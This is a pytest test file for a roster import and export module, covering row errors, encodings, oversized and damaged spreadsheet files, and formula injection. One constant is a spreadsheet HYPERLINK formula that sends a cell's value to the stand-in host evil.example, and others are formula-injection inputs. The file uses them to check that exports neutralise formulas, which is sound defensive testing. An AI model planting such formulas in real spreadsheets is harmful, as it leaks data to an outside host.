"""Roster import: per-row errors with row numbers, good rows imported, strict mode, handovers."""

from __future__ import annotations

import csv
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from grid.db import fetch_all, fetch_one, fetch_value
from grid.exceptions import InvalidInput
from grid.roster import export_roster, import_roster, read_roster, write_error_workbook


async def _leaf_codes(db, n):
    rows = await fetch_all(db, "SELECT code FROM node WHERE level IN ('household', 'floor', 'unit') ORDER BY code LIMIT %(n)s",
                           {"n": n})  # fmt: skip
    return [r["code"] for r in rows]


async def _posts_count(db):
    row = await fetch_one(db, "SELECT count(*) AS total, count(*) FILTER (WHERE ended_at IS NULL) AS current FROM post")
    return row["total"], row["current"]


def _write_xlsx(path, rows):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("名册")
    sheet.append(["节点编码", "职务", "姓名", "手机号", "任职日期"])
    for r in rows:
        sheet.append(r)
    book.save(path)
    return path


@pytest.fixture(scope="module")
def big_roster(tmp_path_factory, loaded_county):
    """9,000 deputy rows on real nodes, with 3 bad rows at known places (file rows 102, 4502, 9001)."""
    codes = [n.code for n in loaded_county.nodes][:9000]
    rows = [[code, "副", f"测试{i}", f"139{i:08d}", date(2025, 3, 1)] for i, code in enumerate(codes)]
    rows[100][0] = "NO-SUCH-NODE"  # file row 102 (the header is row 1)
    rows[4500][3] = "1234567"  # file row 4502
    rows[8998] = [codes[8997], "长", "第二个", "13900000001", date(2025, 3, 1)]  # row 9000 names a chief...
    rows[8999] = [codes[8997], "长", "第三个", "13900000002", date(2025, 3, 1)]  # ...row 9001 a second one
    return _write_xlsx(tmp_path_factory.mktemp("roster") / "roster.xlsx", rows)


async def test_9000_rows_with_3_bad_ones_report_exactly_those_and_import_the_rest(db, big_roster, tmp_path):
    rows = read_roster(big_roster)
    assert len(rows) == 9000
    before = await _posts_count(db)
    report = await import_roster(conn=db, county_code="610827", rows=rows, source="roster.xlsx")
    assert [(e.row, e.node_code) for e in report.errors] == [
        (102, "NO-SUCH-NODE"), (4502, rows[4500].values["node_code"]), (9001, rows[8999].values["node_code"]),
    ]  # fmt: skip
    reasons = [e.reason for e in report.errors]
    assert "没有编码为“NO-SUCH-NODE”" in reasons[0] and "手机号“1234567”格式不对" in reasons[1]
    assert "两个负责人" in reasons[2]
    assert report.imported == 8997 and report.handovers == 1
    after = await _posts_count(db)
    assert after[0] - before[0] == 8997 + 0 and after[1] - before[1] == 8996  # one chief handed over

    out = tmp_path / "errors.xlsx"
    write_error_workbook(rows, report.errors, out)
    sheet = load_workbook(out, read_only=True).worksheets[0]
    marked = [(i, r[-1]) for i, r in enumerate(sheet.iter_rows(values_only=True), start=1) if i > 1 and r[-1]]
    assert [i for i, _ in marked] == [102, 4502, 9001]


async def test_strict_imports_none_when_any_row_is_bad(db, big_roster):
    before = await _posts_count(db)
    report = await import_roster(conn=db, county_code="610827", rows=read_roster(big_roster), source="r", strict=True)
    assert len(report.errors) == 3 and report.imported == 0
    assert await _posts_count(db) == before


async def test_a_new_chief_is_a_handover_and_the_same_file_twice_changes_nothing(db, tmp_path):
    (code,) = await _leaf_codes(db, 1)
    old = await fetch_value(db, "SELECT pe.name FROM post po JOIN person pe ON pe.id = po.person_id JOIN node n ON n.id = po.node_id "
                                "WHERE n.code = %(c)s AND po.role = 'chief' AND po.ended_at IS NULL", {"c": code})  # fmt: skip
    path = tmp_path / "r.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([["node_code", "role", "name", "phone", "start_date"],
                                  [code, "chief", "新组长", "13711112222", "2026-01-05"]])  # fmt: skip
    first = await import_roster(conn=db, county_code="610827", rows=read_roster(path), source="r.csv")
    assert first.ok and first.handovers == 1
    history = await fetch_all(db, "SELECT pe.name, po.ended_at IS NULL AS current FROM post po JOIN person pe ON pe.id = po.person_id "
                                  "JOIN node n ON n.id = po.node_id WHERE n.code = %(c)s AND po.role = 'chief' "
                                  "ORDER BY po.started_at", {"c": code})  # fmt: skip
    assert [(h["name"], h["current"]) for h in history][-2:] == [(old, False), ("新组长", True)]
    again = await import_roster(conn=db, county_code="610827", rows=read_roster(path), source="r.csv")
    assert again.ok and (again.imported, again.unchanged) == (0, 1)


async def test_an_exported_roster_imports_again_unchanged(db, tmp_path):
    village = await fetch_value(db, "SELECT code FROM node WHERE level = 'village' ORDER BY code LIMIT 1")
    path = tmp_path / "village.xlsx"
    count = await export_roster(conn=db, code=village, path=path)
    current = await fetch_value(db, "SELECT count(*) FROM post po JOIN node n ON n.id = po.node_id JOIN node v ON n.path <@ v.path "
                                    "WHERE v.code = %(c)s AND po.ended_at IS NULL", {"c": village})  # fmt: skip
    assert count == current > 20
    report = await import_roster(conn=db, county_code="610827", rows=read_roster(path), source=path.name)
    assert report.ok and (report.imported, report.unchanged) == (0, count)


# --- hostile and foreign files (issue 11: findings 9, 10, 17) ----------------------

NAMES = ["张三丰", "欧阳娜娜", "王䶮"]  # 䶮 is outside GBK: GB18030 only


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_a_csv_is_read_in_utf8_with_or_without_bom_gbk_and_gb18030(tmp_path, encoding):
    names = NAMES[:2] if encoding == "gbk" else NAMES
    path = tmp_path / "名册.csv"
    with path.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh).writerows([["节点编码", "职务", "姓名", "手机号", "任职日期"],
                                  *[["610827001", "副", n, f"1390000000{i}", "2026-01-05"] for i, n in enumerate(names)]])  # fmt: skip
    assert [r.values["name"] for r in read_roster(path)] == names


def test_a_csv_in_no_known_encoding_is_refused_clearly(tmp_path):
    path = tmp_path / "r.csv"
    path.write_bytes(b"node_code,role,name,phone,start_date\n610827001,deputy,\x81\x30\xff,13900000001,2026-01-05\n")
    with pytest.raises(InvalidInput, match="编码"):
        read_roster(path)


def _xlsx_by_hand(path, rows_xml):
    """An .xlsx written as raw parts: `rows_xml` yields the sheet's <row> elements as bytes
    (zip streams them, so 2 million rows make a file of a few hundred KB)."""
    import zipfile

    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    pkg = "http://schemas.openxmlformats.org/package/2006"
    doc = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", f'<?xml version="1.0"?><Types xmlns="{pkg}/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                   '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   "</Types>")  # fmt: skip
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{pkg}/relationships">'
                   f'<Relationship Id="rId1" Type="{doc}/officeDocument" Target="xl/workbook.xml"/></Relationships>')  # fmt: skip
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook {ns} {rel}><sheets>'
                   '<sheet name="名册" sheetId="1" r:id="rId1"/></sheets></workbook>')  # fmt: skip
        z.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="{pkg}/relationships">'
                   f'<Relationship Id="rId1" Type="{doc}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')  # fmt: skip
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f'<?xml version="1.0"?><worksheet {ns}><dimension ref="A1:E2000001"/><sheetData>'.encode())
            header = "".join(f'<c r="{c}1" t="inlineStr"><is><t>{h}</t></is></c>'
                             for c, h in zip("ABCDE", ("node_code", "role", "name", "phone", "start_date"), strict=True))  # fmt: skip
            sheet.write(f'<row r="1">{header}</row>'.encode())
            for chunk in rows_xml:
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


def _rows_xml(n, cell):
    """Rows 2 .. n+1, in chunks of 10,000; `cell(r)` is the row's content."""
    for start in range(2, n + 2, 10_000):
        yield b"".join(b'<row r="%d">%s</row>' % (r, cell(r)) for r in range(start, min(start + 10_000, n + 2)))


def test_two_million_blank_rows_end_the_read_early_in_flat_memory(tmp_path):
    import tracemalloc

    path = _xlsx_by_hand(tmp_path / "blank.xlsx", _rows_xml(2_000_000, lambda r: b""))
    tracemalloc.start()
    try:
        rows = read_roster(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rows == []
    assert peak < 50 * 1024 * 1024, f"reading took {peak / 2**20:.0f} MiB at its peak"


def test_rows_past_the_limit_refuse_the_file_naming_the_setting(tmp_path):
    filled = lambda r: b'<c r="C%d" t="inlineStr"><is><t>x</t></is></c>' % r  # noqa: E731
    path = _xlsx_by_hand(tmp_path / "long.xlsx", _rows_xml(200_000, filled))
    with pytest.raises(InvalidInput, match="WUZHANG_IMPORT_MAX_ROWS") as refused:
        read_roster(path, name="名册.xlsx", max_rows=50_000)
    assert refused.value.details["row"] == 50_002 and "名册.xlsx" in refused.value.message
    # Blank rows between data rows count (they are read); a blank tail does not.
    few = _xlsx_by_hand(tmp_path / "few.xlsx", _rows_xml(5, filled))
    assert len(read_roster(few, max_rows=5)) == 5
    with pytest.raises(InvalidInput):
        read_roster(few, max_rows=4)


def test_a_damaged_xlsx_is_refused_by_its_uploaded_name(tmp_path):
    path = tmp_path / "roster.xlsx"
    for content in (b"PK\x03\x04 not really a zip", b"", b"plain text"):
        path.write_bytes(content)
        with pytest.raises(InvalidInput) as refused:
            read_roster(path, name="村干部名册.xlsx")
        assert "村干部名册.xlsx" in refused.value.message and str(tmp_path) not in refused.value.message


HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"click")'


def _cells_are_text(path, value):
    """Every cell holding `value` is a string cell with Excel's quote prefix; none is a formula."""
    sheet = load_workbook(path).worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row if c.value == value]
    assert found, f"{value!r} not in {path.name}"
    assert all(c.data_type == "s" and c.quotePrefix for c in found), [(c.coordinate, c.data_type) for c in found]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


async def test_a_formula_name_is_text_in_the_export_and_in_the_error_workbook(db, tmp_path):
    (code,) = await _leaf_codes(db, 1)
    path = tmp_path / "r.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([["node_code", "role", "name", "phone", "start_date"],
                                  [code, "deputy", HYPERLINK, "13711113333", "2026-01-05"],
                                  [code, "deputy", "+SUM(1,2)", "bad phone", "2026-01-05"]])  # fmt: skip
    rows = read_roster(path)
    report = await import_roster(conn=db, county_code="610827", rows=rows, source="r.csv")
    assert report.imported == 1 and [e.row for e in report.errors] == [3]
    write_error_workbook(rows, report.errors, tmp_path / "errors.xlsx")
    _cells_are_text(tmp_path / "errors.xlsx", HYPERLINK)
    _cells_are_text(tmp_path / "errors.xlsx", "+SUM(1,2)")
    await export_roster(conn=db, code=code, path=tmp_path / "export.xlsx")
    _cells_are_text(tmp_path / "export.xlsx", HYPERLINK)
    # The name is kept exactly: the export imports again unchanged.
    again = await import_roster(conn=db, county_code="610827", rows=read_roster(tmp_path / "export.xlsx"), source="e")
    assert again.ok and again.imported == 0


def test_csv_fields_that_look_like_formulas_get_a_leading_apostrophe():
    from grid.sheets import csv_text

    for bad in (HYPERLINK, "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_text(bad) == "'" + bad
    assert csv_text("王五") == "王五" and csv_text(13800000000) == 13800000000
